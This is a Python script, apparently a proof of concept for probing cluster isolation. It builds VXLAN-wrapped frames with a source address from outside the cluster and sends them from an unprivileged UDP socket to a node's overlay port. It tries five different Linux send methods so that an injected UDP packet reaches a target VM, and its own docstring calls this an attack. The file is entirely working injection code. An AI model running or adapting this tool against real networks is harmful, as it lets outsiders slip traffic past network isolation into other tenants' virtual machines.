"""Runs anywhere, as anybody: send a frame in VXLAN (RFC 7348) from a plain UDP socket.

Usage: inject.py NAME NODE PORT VNI MAC ADDRESS [SOURCE_PORT]; the frame is a UDP packet for port 7777 of a
VM. Standard library only.
"""

import socket
import struct
import sys

WAYS = ("plain", "mapped", "corked", "segments", "connected")


def packet(name: bytes, mac: str, address: str) -> bytes:
    """Return an Ethernet frame with an IPv4 UDP packet, from an address outside of every cluster."""
    udp = struct.pack(">HHHH", 7, 7777, 8 + len(name), 0) + name
    header = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, bytes([198, 51, 100, 7]), socket.inet_aton(address)
    )
    total = sum(struct.unpack(">10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    checked = header[:10] + struct.pack(">H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + header[12:]
    return bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("525400000099") + b"\x08\x00" + checked + udp


def send(how: str, data: bytes, to: tuple[str, int], source_port: int) -> None:
    """Send in one of the ways that Linux has: plainly, from an IPv6 socket, corked and uncorked, segmented by the kernel,
    connected.
    """
    mapped = how == "mapped"
    with socket.socket(socket.AF_INET6 if mapped else socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.bind(("", source_port))
        wire.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        target = (f"::ffff:{to[0]}", to[1]) if mapped else to
        if how == "corked":
            wire.sendto(data[:20], socket.MSG_MORE, target)
            wire.sendto(data[20:], target)
        elif how == "segments":
            wire.setsockopt(socket.IPPROTO_UDP, 103, len(data))  # UDP_SEGMENT, linux/udp.h
            wire.sendto(data + data, target)
        elif how == "connected":
            wire.connect(target)
            wire.sendmsg([data[:8], data[8:]])
        else:
            wire.sendto(data, target)


def main(name: str, node: str, port: str, vni: str, mac: str, address: str, source_port: str = "0") -> None:
    """Attack in every way; a refusal by the kernel is a failure of the attack, not of this program."""
    for how in WAYS:
        data = struct.pack(">II", 0x08000000, int(vni) << 8) + packet(f"<{name} {how}>".encode(), mac, address)
        try:
            send(how, data, (node, int(port)), int(source_port))
        except OSError as error:
            print(f"{how}: refused: {error}")


if __name__ == "__main__":
    main(*sys.argv[1:])
